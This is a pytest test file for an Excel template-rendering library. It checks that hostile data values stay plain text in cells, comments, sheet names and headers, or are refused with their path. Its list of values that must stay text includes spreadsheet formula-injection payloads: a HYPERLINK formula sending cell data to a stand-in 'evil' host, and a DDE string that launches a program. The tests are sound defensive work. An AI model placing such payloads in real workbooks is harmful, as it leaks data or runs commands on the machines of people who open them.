"""Hostile values in a workbook: each comes out as the text that went in, or is refused with its path.

A text from data never becomes a formula, a number or a date, whatever it begins with.
"""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from lxml import etree
from openpyxl.comments import Comment
from openpyxl.worksheet.worksheet import Worksheet

from docgen.engine import Template
from docgen.errors import RenderError
from docgen.problems import Problem
from tests.office.documents import faults
from tests.office.sheets import s

# Characters that XML has no place for, and texts longer than a cell takes (32,767 characters).
REFUSED = {"nul", "vt", "us", "bell", "ff", "ufffe", "surr", "mb1", "k32"}
# What would be a formula, an error, a number, a truth value or a date if somebody typed it.
MUST_STAY_TEXT = (
    '=HYPERLINK("http://evil/?"&A2,"click")', "=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "=1+1",
    "==", "=", "+32 475 12 34 56", "-", "= Total due", '=IMPORTXML("http://x")', "00123", "1e5", "TRUE", "2024-01-02",
    "12:30", "#REF!", "#N/A", "3.10", "{=1+1}", "'quoted", "1/2", "10%", "$5",
)  # fmt: skip


def values() -> dict[str, str]:
    raw = json.loads((Path(__file__).parent / "values.json").read_text(encoding="utf-8"))
    return {
        name: value if isinstance(value, str) else value["repeat"] * value["times"]
        for name, value in raw.items()
    }


VALUES = values()


def saved(book: openpyxl.Workbook) -> bytes:
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


@pytest.fixture(scope="module")
def template() -> Template:
    """The value alone in a cell, within a text, in rows and columns of loops, in a comment, in a property."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Values"
    sheet["A1"], sheet["A2"], sheet["B1"] = "{{ value }}", "before {{ value }} after", "beside"
    sheet["A4"], sheet["A5"], sheet["A6"] = "{%tr for row in rows %}", "{{ row }}", "{%tr endfor %}"
    sheet["B5"], sheet["B7"] = '=IF(A5="","none",A5)', "=COUNTA(A5:A5)"
    sheet["C1"] = "noted"
    sheet["C1"].comment = Comment("note {{ value }}", "docgen")
    across = book.create_sheet("Across")
    for column, text in enumerate(("{%tc for row in rows %}", "{{ row }}", "{%tc endfor %}"), start=1):
        across.cell(1, column, text)
    book.properties.title = "{{ value }}"
    return Template.open(saved(book), name="values.xlsx")


def rendered(template: Template, value: str) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(template.render(data(value))))


def data(value: str) -> dict[str, Any]:
    return {"value": value, "rows": [value, value]}


def shown(value: str) -> str | None:
    """Return a value as a cell holds it: each kind of line end is a line break, and an empty text is no text."""
    return value.replace("\r\n", "\n").replace("\r", "\n") or None


def assert_text(sheet: Worksheet, cell: str, value: str) -> None:
    assert sheet[cell].value == shown(value), cell
    assert value == "" or sheet[cell].data_type in {"s", "inlineStr"}, cell


@pytest.mark.parametrize(
    "value", [VALUES[name] for name in sorted(VALUES.keys() - REFUSED)] + [*MUST_STAY_TEXT]
)
def test_a_text_comes_out_as_the_text_that_went_in(template: Template, value: str) -> None:
    book = rendered(template, value)
    sheet, across = book["Values"], book["Across"]
    for cell in ("A1", "A4", "A5"):
        assert_text(sheet, cell, value)
    for cell in ("A1", "B1"):
        assert_text(across, cell, value)
    assert_text(sheet, "A2", f"before {value} after")
    # openpyxl reads a comment as it stands in the file, where an underscore may be escaped.
    assert sheet["C1"].comment is not None
    noted = sheet["C1"].comment.text
    assert shown(noted.replace("_x005F_", "_")) == shown(f"note {value}")
    assert "_x000B_" not in noted.replace("_x005F_x000B_", "")
    assert shown(book.properties.title or "") == shown(value)


@pytest.mark.parametrize("value", [VALUES["amp"], VALUES["emoji"], VALUES["nl"], *MUST_STAY_TEXT])
def test_nothing_around_a_text_changes(template: Template, value: str) -> None:
    sheet = rendered(template, value)["Values"]
    assert [sheet[cell].value for cell in ("B1", "B4", "B5", "C1")] == [
        "beside", '=IF(A4="","none",A4)', '=IF(A5="","none",A5)', "noted",
    ]  # fmt: skip
    assert sheet["B6"].value == "=COUNTA(A4:A5)"


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_what_a_cell_cannot_hold_is_refused_with_its_place_and_path(template: Template, name: str) -> None:
    with pytest.raises(RenderError) as raised:
        template.render(data(VALUES[name]))
    alone, *_ = problems_at(raised.value, "Values!A1")
    assert alone.where.path == "value"
    (in_row, *_) = problems_at(raised.value, "Values!A5")
    assert in_row.where.path == "rows[0]"


def problems_at(error: RenderError, cell: str) -> list[Problem]:
    return [problem for problem in error.problems if cell in problem.where.trail]


@pytest.mark.parametrize("name", ["wxml", "cdata_end", "lt_tag", "quotes", "esc_x", "lead_sp", "nl", "emoji"])
def test_workbooks_with_hostile_values_break_no_structural_rule(
    template: Template, name: str, tmp_path: Path
) -> None:
    path = tmp_path / "values.xlsx"
    path.write_bytes(template.render(data(VALUES[name])))
    blank = tmp_path / "blank.xlsx"
    blank.write_bytes(template.render(data("x")))
    # openpyxl, which made the template, leaves the properties of a font out of order: that is no new fault.
    assert set(faults(path)) - set(faults(blank)) == set()


@pytest.fixture(scope="module")
def tabs() -> Template:
    book = openpyxl.Workbook()
    book.active.title = "{{ row }}"
    book.active["A1"] = "{%sheet for row in rows %}"
    book.active["A2"] = "{{ row }}"
    return Template.open(saved(book), name="tabs.xlsx")


@pytest.mark.parametrize("name", ["amp", "lt", "emoji", "nfd", "datestr", "numstr", "pct"])
def test_a_sheet_is_called_what_the_data_say(tabs: Template, name: str) -> None:
    raw = tabs.render({"rows": [VALUES[name], "other"]})
    assert openpyxl.load_workbook(io.BytesIO(raw)).sheetnames == [VALUES[name], "other"]


NO_NAMES = (
    "a/b", "x" * 32, "a:b", "[a]", "what?", "'a'", "", "History", VALUES["k32"], VALUES["nul"], VALUES["jinja"],
)  # fmt: skip


@pytest.mark.parametrize("value", NO_NAMES)
def test_a_name_that_no_sheet_can_have_is_refused_with_its_path(tabs: Template, value: str) -> None:
    with pytest.raises(RenderError) as raised:
        tabs.render({"rows": ["good", value]})
    assert "rows[1]" in {problem.where.path for problem in raised.value.problems}


def test_two_sheets_whose_names_differ_only_in_case_are_refused(tabs: Template) -> None:
    with pytest.raises(RenderError) as raised:
        tabs.render({"rows": ["Site", "SITE"]})
    assert [problem.where.path for problem in raised.value.problems] == ["rows[1]"]


@pytest.fixture(scope="module")
def margins() -> Template:
    book = openpyxl.Workbook()
    book.active.oddHeader.center.text = "{{ value }}"
    return Template.open(saved(book), name="margins.xlsx")


HEADERS = ("R&D", "&P of &N", '&"Arial"big', "a_x000B_b", "100%", "x" * 200, " edge ", "one\ntwo", "<b>")


@pytest.mark.parametrize("value", HEADERS)
def test_a_page_header_shows_a_text_and_takes_no_codes_from_it(margins: Template, value: str) -> None:
    """Read as it stands in the file: `&C` begins the middle, `&&` is an ampersand, `_x005F_` an underscore."""
    with zipfile.ZipFile(io.BytesIO(margins.render({"value": value}))) as archive:
        root = etree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    codes = root.findtext(f"{s('headerFooter')}/{s('oddHeader')}") or ""
    middle = codes.removeprefix("&C").replace("&&", "\0")
    assert "&" not in middle
    assert middle.replace("\0", "&").replace("_x005F_", "_") == value
    assert "_x000B_" not in middle.replace("_x005F_x000B_", "")


def test_a_page_header_longer_than_excel_takes_is_refused_with_its_path(margins: Template) -> None:
    with pytest.raises(RenderError) as raised:
        margins.render({"value": "x" * 300})
    assert [problem.where.path for problem in raised.value.problems] == ["value"]
